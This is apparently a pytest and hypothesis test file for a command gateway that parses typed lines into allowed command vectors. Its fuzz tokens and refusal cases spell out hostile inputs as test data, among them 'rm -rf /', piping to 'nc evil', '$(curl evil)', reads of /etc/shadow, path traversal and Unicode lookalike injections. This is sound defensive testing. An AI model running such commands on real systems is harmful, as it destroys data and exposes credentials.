"""Whoever types at the command gate wants another program, another option, another file, or a shell.

Nothing but listed vectors comes of a line: judged here by an oracle of its own, which shares no code with the parser but the
values of the lists. (What symbolic links do on the target is tried with the runner.)
"""

import posixpath
import re
import shlex
import time
import tomllib

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.authorization.commands.invocation import Invocation, Refused, Why
from gateway.authorization.commands.line import invocation_of
from gateway.authorization.commands.lists import ListedCommand, Slot
from gateway.authorization.commands.parameters import Kind, Parameter
from gateway.commands.quoting import quoted
from tests.gateway.authorization.a_request import SHIPPED
from tests.gateway.authorization.commands.an_offer import NAMES, ROOTS, an_offer, everything

OFFER = everything()
KEYS = re.compile(
    r"(?i)/(g?shadow[^/]*|sudoers(\.d)?|\.ssh|opasswd|[^/]*\.(key|pem|p12|pfx|jks|keytab)|ssh_host_[^/]*_key)(/|$)"
)


def seen_lines() -> list[str]:
    """Every line of every shipped case: those that run and those that are refused."""
    files = [tomllib.loads(path.read_text(encoding="utf-8")) for path in sorted((SHIPPED / "commands").glob("*.toml"))]
    return [case["line"] for file in files for case in file["case"] if "line" in case]


LINES = seen_lines()


def fits(parameter: Parameter, text: str) -> bool:
    """Is the text in a vector what its parameter may be?"""
    match parameter.kind:
        case Kind.NUMBER:
            return (
                re.fullmatch(r"0|[1-9][0-9]*", text) is not None and parameter.minimum <= int(text) <= parameter.maximum
            )
        case Kind.CHOICE:
            return text in [each.argument for each in parameter.choices]
        case Kind.NAMED:
            return text in NAMES[parameter.named or ""]
        case Kind.UNIT if parameter.named:
            return text in NAMES[parameter.named]
        case Kind.UNIT:
            return re.fullmatch(r"[A-Za-z0-9:_.@\\][A-Za-z0-9:_.@\\-]{0,250}\.[a-z]+", text) is not None
        case Kind.PACKAGE:
            return re.fullmatch(r"[a-z0-9][a-z0-9+.-]*[a-z0-9]", text) is not None
        case Kind.TIME:
            return re.fullmatch(r"[0-9: -]+|[0-9]+(min|h|d) ago|today|yesterday", text) is not None and text[0] != "-"
        case Kind.FLAG:
            return text == ""
        case Kind.PATTERN | Kind.REGEX:
            return parameter.minimum <= len(text) <= parameter.maximum and text.isprintable()
    return False


def is_listed(invocation: Invocation) -> bool:
    """True if the vector is the command's template with its slots filled or, where they may be, left out."""
    command = invocation.command
    template = command.follow if invocation.follow else command.vector
    rest = list(invocation.vector())
    for each in template or ():
        if isinstance(each, str):
            if not rest or rest.pop(0) != each:
                return False
        elif (
            rest and rest[0].startswith(each.before) and fits(parameter_of(command, each), rest[0][len(each.before) :])
        ):
            rest.pop(0)
        elif not parameter_of(command, each).optional:
            return False
    return rest == []


def parameter_of(command: ListedCommand, slot: Slot) -> Parameter:
    return {each.name: each for each in command.parameters}[slot.parameter]


def is_inside(invocation: Invocation) -> bool:
    """True if the path, where there is one, is normal, under its root, and no key."""
    found = invocation.path()
    if found is None:
        return True
    parameter, path = found
    under = any(posixpath.commonpath([root, path]) == root for root in ROOTS[parameter.root or ""])
    return under and posixpath.normpath(path) == path and KEYS.search(path) is None


def judge(line: str) -> Invocation | Refused:
    found = invocation_of(line, OFFER)
    if isinstance(found, Refused):
        assert found.text.ja.replace("\n", "").isprintable()
        assert found.text.en.replace("\n", "").isprintable()
        assert found.text.en.isascii()
        return found
    vector = found.vector()
    assert is_listed(found), (line, vector)
    assert is_inside(found), (line, found.path())
    assert shlex.split(quoted(vector)) == list(vector)
    assert not any(re.search(r"[\x00-\x1f\x7f-\x9f]", each) for each in vector)
    typed = re.sub("['\"]", "", line)  # quotes only group words, also within a command's name
    assert f"{' '.join(typed.split())} ".startswith(
        tuple(f"{name} " for name in (found.command.name, *found.command.also))
    )
    return found


TOKENS = st.sampled_from(
    [
        *"|;&<>`$(){}*?~!\\#^[]'\"=-/. \t\n\r\x00\x1b\x7f\x9b\u200b\u202e\u3000｜；－‐−ａа",
        *(
            "--",
            "-e",
            "-f",
            "-o",
            "-exec sh",
            "--file=",
            "--output=",
            "--pager=sh",
            "-C",
            "-x",
            "-n",
            "--help",
            "--host=evil",
        ),
        *("..", "../", "//", "/..", "/./", "/etc/shadow", "/var/log/../../etc/shadow", "/proc/self/environ", "~root"),
        *(
            "follow",
            "lines=",
            "file=",
            "text=",
            "regex=",
            "unit=",
            "=",
            "''",
            '""',
            "' '",
            "9" * 12,
            "-1",
            "0",
            "1e9",
            "%s",
        ),
        *(
            "; rm -rf /",
            "&& sh",
            "| nc evil 1",
            "> /etc/passwd",
            "$(curl evil)",
            "`id`",
            "{a,b}",
            "!!",
            "sudo",
            "sh -c",
            "env",
        ),
    ]
)
WORDS = st.sampled_from(sorted({word for line in LINES for word in line.split(" ") if word}))
CHANGED = st.builds(
    lambda line, at, token, spaced: (
        line[: at % (len(line) + 1)] + (f" {token} " if spaced else token) + line[at % (len(line) + 1) :]
    ),
    st.sampled_from(LINES),
    st.integers(0, 200),
    TOKENS,
    st.booleans(),
)
MIXED = st.builds(" ".join, st.lists(st.one_of(WORDS, TOKENS, st.sampled_from(sorted(OFFER.commands))), max_size=8))


@settings(max_examples=600, deadline=None)
@given(
    st.one_of(
        CHANGED,
        MIXED,
        st.builds(lambda name, text: f"{name} {text}", st.sampled_from(sorted(OFFER.commands)), st.text(max_size=40)),
    )
)
@example("grep -e -f syslog")
@example("grep text=-f file=syslog")
@example("tail --lines=1 -- syslog")
def test_R07_whatever_the_line_only_listed_vectors_come_of_it(line: str) -> None:
    judge(line)


@pytest.mark.parametrize("line", LINES)
def test_R07_so_with_every_line_of_the_shipped_cases_and_a_word_too_many(line: str) -> None:
    judge(line)
    for more in ("x", "-x", "--", "--help", "-", "''", "; sh", "\x00"):
        judge(f"{line} {more}")
        judge(f"{more} {line}")


@pytest.mark.parametrize(
    ("line", "why"),
    [
        # another program
        ("sh", Why.UNLISTED),
        ("sh -c id", Why.UNLISTED),
        ("/bin/sh", Why.UNLISTED),
        ("./tail syslog", Why.UNLISTED),
        ("/usr/bin/tail syslog", Why.UNLISTED),
        ("PATH=/tmp tail syslog", Why.UNLISTED),
        ("LESSOPEN='|id' view syslog", Why.UNLISTED),
        ("env tail syslog", Why.UNLISTED),
        ("'tail syslog'", Why.UNLISTED),
        ("sudo tail syslog", Why.UNLISTED),
        ("tail\\ syslog", Why.SYNTAX),
        # substitution, pipes, redirections, jobs, history
        ("tail syslog; id", Why.SYNTAX),
        ("tail syslog|id", Why.SYNTAX),
        ("tail syslog && id", Why.SYNTAX),
        ("tail syslog & id", Why.SYNTAX),
        ("tail $(id)", Why.SYNTAX),
        ("tail `id`", Why.SYNTAX),
        ("tail ${HOME}", Why.SYNTAX),
        ("tail <(id)", Why.SYNTAX),
        ("tail syslog > /tmp/x", Why.SYNTAX),
        ("tail syslog 2>&1", Why.SYNTAX),
        ("!tail", Why.SYNTAX),
        ("tail sys*", Why.SYNTAX),
        ("tail sys?og", Why.SYNTAX),
        ("tail [s]yslog", Why.SYNTAX),
        ("tail {syslog,auth.log}", Why.SYNTAX),
        ("tail ~/x", Why.SYNTAX),
        ("tail syslog #", Why.SYNTAX),
        ("tail 'sys*'", Why.VALUE),
        ("tail '$(id)'", Why.VALUE),
        # options
        ("tail --follow=name syslog", Why.OPTION),
        ("tail --pid=1 syslog", Why.OPTION),
        ("tail -c1G syslog", Why.OPTION),
        ("grep -f /etc/shadow syslog", Why.OPTION),
        ("grep --file=/etc/shadow syslog", Why.OPTION),
        ("grep -r x", Why.OPTION),
        ("grep -P x syslog", Why.OPTION),
        ("journalctl --file=/etc/shadow", Why.OPTION),
        ("journalctl -D /root", Why.OPTION),
        ("journalctl -M evil", Why.OPTION),
        ("journalctl -o export", Why.OPTION),
        ("journalctl --output=cat", Why.OPTION),
        ("journalctl '-D/root'", Why.VALUE),
        ("journalctl unit=-D", Why.VALUE),
        ("journalctl _COMM=x", Why.VALUE),
        ("journalctl --vacuum-size=1", Why.OPTION),
        ("systemctl -H evil status nginx", Why.UNLISTED),
        ("systemctl status -H evil", Why.OPTION),
        ("systemctl status nginx.service/../x", Why.VALUE),
        ("systemctl edit nginx", Why.UNLISTED),
        ("systemctl restart nginx.service ssh.service", Why.SURPLUS),
        ("systemctl restart unit=nginx unit=ssh", Why.SURPLUS),
        ("ping -f localhost", Why.OPTION),
        ("ping -I eth0 db1.internal", Why.OPTION),
        ("ping 'db1.internal '", Why.VALUE),
        ("ss -D /tmp/x", Why.OPTION),
        ("ss -F /etc/shadow", Why.OPTION),
        ("ss -K", Why.OPTION),
        ("ip -b /etc/shadow addr", Why.UNLISTED),
        ("ip addr -b /etc/shadow", Why.OPTION),
        ("du --files0-from=/etc/shadow", Why.OPTION),
        ("du -L", Why.OPTION),
        ("df --output=target /root", Why.OPTION),
        ("ls -R", Why.OPTION),
        ("ls -L", Why.OPTION),
        ("ls --dired", Why.OPTION),
        ("cat -A syslog", Why.OPTION),
        ("less +!id syslog", Why.SYNTAX),
        ("less '+!id' syslog", Why.SURPLUS),
        ("less '+!id'", Why.VALUE),
        ("ps aux e", Why.VALUE),
        ("date -f /etc/shadow", Why.OPTION),
        ("top -b", Why.OPTION),
        ("lsof -p ^1", Why.SYNTAX),
        ("lsof +D /", Why.SURPLUS),
        ("apt-get -s upgrade -o Dir::Bin::dpkg=/tmp/x", Why.OPTION),
        ("apt-get only-upgrade openssl -o APT::Get::x=y", Why.OPTION),
        ("apt-get only-upgrade openssl nmap", Why.SURPLUS),
        ("dpkg -l -a", Why.OPTION),
        ("pg tables callcenter -c select", Why.OPTION),
        ("pg tables 'callcenter user=postgres'", Why.VALUE),
        ("pg tables postgresql://evil/x", Why.VALUE),
        ("pg sessions callcenter", Why.SURPLUS),
        # another file
        ("tail /etc/shadow", Why.OUTSIDE),
        ("tail ../../etc/shadow", Why.VALUE),
        ("tail /var/log/../../etc/shadow", Why.VALUE),
        ("tail //etc/shadow", Why.VALUE),
        ("tail /var/log//x", Why.VALUE),
        ("tail /var/log/.", Why.VALUE),
        ("tail /proc/self/environ", Why.OUTSIDE),
        ("tail file=/dev/sda", Why.OUTSIDE),
        ("tail /var/logx", Why.OUTSIDE),
        ("config view shadow", Why.OUTSIDE),
        ("config view SHADOW", Why.OUTSIDE),
        ("config view ssl/private/x", Why.OUTSIDE),
        ("config view ssh/ssh_host_rsa_key", Why.OUTSIDE),
        ("config edit /etc/hosts", Why.OUTSIDE),
        ("config edit ../../../etc/passwd", Why.VALUE),
        ("recent folder=/root", Why.OUTSIDE),
        ("backup sha256 shadow.bak", Why.OUTSIDE),
        # letters that are not what they look like
        ("tail syslog\u200b", Why.LETTER),
        ("ta\u200dil syslog", Why.LETTER),
        ("tail \u202egolsys", Why.LETTER),
        ("tail\xa0syslog", Why.LETTER),
        ("tail\u3000syslog", Why.LETTER),
        ("tail syslog｜id", Why.LETTER),
        ("tail syslog；id", Why.LETTER),
        ("tail －n 5 syslog", Why.LETTER),
        ("tail ‐n 5 syslog", Why.LETTER),
        ("tail −n 5 syslog", Why.LETTER),
        ("ｔａｉｌ syslog", Why.LETTER),
        ("tаil syslog", Why.UNLISTED),
        ("tail cafe\u0301.log", Why.LETTER),
        ("tail “syslog”", Why.LETTER),
        ("journalctl -n ٣", Why.LETTER),
        ("systemctl restart nginx\ufeff", Why.LETTER),
        # bytes that end or paint
        ("tail sys\x00log", Why.LETTER),
        ("tail syslog\nid", Why.LETTER),
        ("tail syslog\r", Why.LETTER),
        ("tail\tsyslog", Why.LETTER),
        ("grep '\x1b]52;c;x\x07' syslog", Why.LETTER),
        ("grep '\x9b2J' syslog", Why.LETTER),
        ("grep '\udc80' syslog", Why.LETTER),
        # quotes
        ("grep 'x syslog", Why.SYNTAX),
        ("grep 'x\" syslog", Why.SYNTAX),
        ("''", Why.UNLISTED),
        ("grep '' syslog", Why.VALUE),
        ("grep ' ' syslog", Why.VALUE),
        ('tail ""', Why.VALUE),
    ],
)
def test_R07_by_hand(line: str, why: Why) -> None:
    found = judge(line)
    assert isinstance(found, Refused), found
    assert found.why is why


@pytest.mark.parametrize(
    ("line", "last"),
    [
        ("grep '$(id)' syslog", "$(id)"),
        ("grep '; rm -rf / #' syslog", "; rm -rf / #"),
        ('grep "it\'s" syslog', "it's"),
        ("grep '--file=/etc/shadow' syslog", "--file=/etc/shadow"),
        ("grep text=--file=/etc/shadow syslog", "--file=/etc/shadow"),
        ("grep '\\n' syslog", "\\n"),
        ("grep '｜；－' syslog", "｜；－"),
        ("egrep '^-f|`id`$' syslog", "^-f|`id`$"),
    ],
)
def test_R07_a_pattern_may_hold_anything_that_is_seen_and_is_only_a_pattern(line: str, last: str) -> None:
    found = judge(line)
    assert isinstance(found, Invocation)
    assert found.vector()[-2:] == ("-e", last)


@pytest.mark.parametrize(
    "line",
    [
        "tail " + "a" * 1_000_000,
        "tail " + "a " * 500_000,
        "tail " + "'" * 999,
        "'" * 1_000_001,
        "grep " + "-e " * 300,
        "tail " + "lines=1 " * 100,
        "egrep '" + "a*" * 400 + "' syslog",
        "egrep '" + "[" * 900 + "' syslog",
        "a" * 999,
        "systemctl " * 90,
        "tail " + "../" * 300,
        "tail /" + "a/" * 400,
        "-" * 1000,
        "=" * 1000,
        "\u3099" * 1000,
        "\U0010ffff" * 1000,
    ],
)
def test_R07_long_lines_are_refused_at_once(line: str) -> None:
    before = time.process_time()
    assert isinstance(judge(line), Refused)
    assert time.process_time() - before < 0.5


@pytest.mark.parametrize("purpose", ["backup", "inquiry"])
def test_R07_no_purpose_reaches_into_another(purpose: str) -> None:
    offer = an_offer(purpose)
    for line in LINES:
        found = invocation_of(line, offer)
        assert isinstance(found, Refused) or found.command.name in offer.commands
    assert not any(each.privileged or each.edits for each in offer.commands.values())
